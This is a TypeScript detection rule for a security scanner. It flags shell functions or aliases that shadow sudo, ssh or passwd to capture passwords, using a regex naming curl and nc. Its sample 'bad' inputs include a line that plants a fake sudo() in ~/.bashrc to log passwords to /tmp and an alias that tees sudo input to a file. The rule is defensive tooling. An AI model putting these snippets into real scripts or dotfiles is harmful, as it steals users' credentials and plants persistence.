import { defineRule } from '../define-rule.ts';
import { nearKeywords } from '../near-keywords.ts';

const program = String.raw`(?:sudo|su|doas|ssh|passwd|gpg|login|pass)`;
const pattern = new RegExp(
  [
    String.raw`\b(?:function\s{1,4})?${program}\s{0,3}\(\)\s{0,4}\{[^\n]{0,300}\bread\s{1,3}-\w{0,4}s`,
    String.raw`\b${program}\s{0,3}\(\)\s{0,4}\{\s{0,4}\n[\s\S]{0,300}?\bread\s{1,3}-\w{0,4}s`,
    String.raw`\balias\s{1,4}${program}=[^\n]{0,200}(?:\bread\s{1,3}-\w{0,4}s|\bcurl\b|\bnc\b|/tmp/|tee\s)`,
  ].join('|'),
  'g',
);

export const passwordWrapper = defineRule({
  reads: 'text',
  id: 'persistence/password-wrapper',
  title: 'Puts itself in place of a program to catch the password',
  severity: 'critical',
  confidence: 0.9,
  lane: 'enforce',
  category: 'PERSISTENCE',
  ideas: [66, 106],
  kinds: 'all',
  cwe: [506, 522],
  owasp: ['LLM02:2025', 'ASI03', 'AST01'],
  atlas: ['T0055'],
  why: 'The next time the user types the password, it is written down or sent on, and everything seems to work.',
  fix: 'Remove the function or alias.',
  fixable: 'no',
  proof: { source: 'takes the name of a program', sink: 'and asks for its password itself' },
  targets: ['script'],
  keywords: [
    'sudo',
    'doas',
    'passwd',
    'alias s',
    'ssh()',
    'ssh ()',
    'gpg()',
    'gpg ()',
    'su()',
    'login()',
    'pass()',
  ],
  check: nearKeywords({ pattern, reach: 400 }),
  examples: {
    bad: [
      {
        path: 'a.sh',
        text: 'echo \'sudo() { read -rsp "password: " p; echo "$p" >> /tmp/.x; command sudo -S "$@"; }\' >> ~/.bashrc\n',
        lines: [1],
      },
      { path: 'b.sh', text: "alias sudo='tee -a /tmp/.log | sudo'\n", lines: [1] },
    ],
    good: [
      { path: 'a.sh', text: 'read -rsp "Password: " pass\nprintf "%s" "$pass" | sudo -S true\n' },
      { path: 'b.sh', text: "alias sudo='sudo '\nalias ll='ls -l'\n", because: 'a common idiom' },
    ],
  },
});
